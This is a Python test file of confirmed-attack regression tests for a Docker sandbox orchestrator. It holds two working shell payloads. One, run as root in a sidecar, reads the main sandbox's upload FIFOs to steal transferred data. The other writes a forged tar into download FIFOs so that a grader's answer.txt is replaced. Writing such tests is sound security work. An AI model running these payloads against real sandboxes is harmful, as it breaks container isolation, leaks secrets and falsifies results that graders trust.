"""ATTACK TESTS (review of issue 20, hostile review, Docker): each test here is a confirmed
attack and FAILS while the hole is open. Do not mark them xfail: the lead fixes.

- test_attack_root_service_reads_main_upload_fifo: every container of an environment
  mounts the same shared folder (/.orchestrator), where the transfer FIFOs of the main
  sandbox (and of each service) appear with mode 0. Mode 0 stops a non-root user only:
  root in a *service* (the image's default user of most sidecars) has CAP_DAC_OVERRIDE,
  sees `in-<uuid>` FIFOs appear and opens them, reading what the host uploads into the
  main sandbox (and, the same way, could write into `out-*` FIFOs: bytes into a host
  download of the main sandbox). docs/security.md says no one but the root executor opens
  them.
- test_attack_root_service_forges_main_download: the same, the other way: root in a
  service writes its own tar into the `out-*` FIFO of `rt.download()` from the main
  sandbox; the host's download succeeds with the service's answer.txt instead of the
  sandbox's (5 of 5 here). Symmetrically, root in the main sandbox reaches the FIFOs of
  every service's transfers.
"""

from __future__ import annotations

import contextlib
import json
from pathlib import Path

from orchestrator import spawn_runtime
from tests.docker.conftest import BUSYBOX_IMAGE, PYTHON_IMAGE

SPY = (
    "touch /tmp/seen /tmp/stolen; while :; do for f in /.orchestrator/in-*; do "
    '[ -p "$f" ] || continue; grep -qxF "$f" /tmp/seen && continue; '
    'echo "$f" >> /tmp/seen; cat "$f" >> /tmp/stolen & done; '
    "usleep 2000 2>/dev/null || sleep 0.01; done"
)
SECRET = b"SECRET-UPLOAD-FOR-MAIN-ONLY\n"


def test_attack_root_service_reads_main_upload_fifo(tmp_path: Path) -> None:
    spec = tmp_path / "spy.yaml"
    spec.write_text(
        f"""version: 1
name: fifospy
image: {PYTHON_IMAGE}
user: "1000:1000"
services:
  spy:
    image: {BUSYBOX_IMAGE}
    command: {json.dumps(["sh", "-c", SPY])}
"""
    )
    local = tmp_path / "up"
    local.mkdir()
    (local / "secret.txt").write_bytes(SECRET * (8 * 1024 * 1024 // len(SECRET)))
    with spawn_runtime(spec) as rt:
        spy = rt.service("spy")
        assert spy.execute(["sh", "-c", "ls -ld /.orchestrator; id -u"]).ok
        for i in range(3):
            with contextlib.suppress(Exception):  # a stolen part may cut it: beside the point
                rt.upload(local, f"/tmp/up{i}")
        seen = spy.execute(["cat", "/tmp/seen"]).stdout.split()
        stolen = spy.execute(["sh", "-c", "grep -c SECRET-UPLOAD /tmp/stolen || true"])
    count = int(stolen.stdout.strip() or 0)
    assert count == 0, (
        f"root in service `spy` opened the main sandbox's upload FIFOs {seen} and read "
        f"{count} lines of the upload"
    )


FORGER = (
    "mkdir -p /tmp/f && echo FORGED-BY-SPY > /tmp/f/answer.txt && "
    "tar -C /tmp/f -cf /tmp/forged.tar answer.txt && touch /tmp/seen && "
    "while :; do for f in /.orchestrator/out-*; do "
    '[ -p "$f" ] || continue; grep -qxF "$f" /tmp/seen && continue; '
    'echo "$f" >> /tmp/seen; [ "$(wc -l < /tmp/seen)" -gt 1 ] || continue; '
    'cat /tmp/forged.tar > "$f" & done; '
    "usleep 1000 2>/dev/null || sleep 0.01; done"
)


def test_attack_root_service_forges_main_download(tmp_path: Path) -> None:
    """The same shared folder, the other way: root in a service writes its own archive
    into the FIFO of a host download from the main sandbox (a grader's answer.txt). It
    lets the first out-* FIFO (the channel's "ok" probe) pass untouched."""
    spec = tmp_path / "forge.yaml"
    spec.write_text(
        f"""version: 1
name: fifoforge
image: {PYTHON_IMAGE}
user: "1000:1000"
services:
  spy:
    image: {BUSYBOX_IMAGE}
    command: {json.dumps(["sh", "-c", FORGER])}
"""
    )
    got: list[str] = []
    with spawn_runtime(spec) as rt:
        assert rt.service("spy").execute(["sh", "-c", "test -s /tmp/forged.tar"]).ok
        rt.execute("mkdir -p out && echo honest > out/answer.txt")
        for i in range(5):
            dest = tmp_path / f"down{i}"
            with contextlib.suppress(Exception):  # a mixed stream may fail: beside the point
                rt.download("out", dest)
            answer = dest / "answer.txt"
            if answer.is_file():
                got.append(answer.read_text().strip())
    assert "FORGED-BY-SPY" not in got, (
        f"root in service `spy` wrote into the main sandbox's download FIFO: host got {got}"
    )
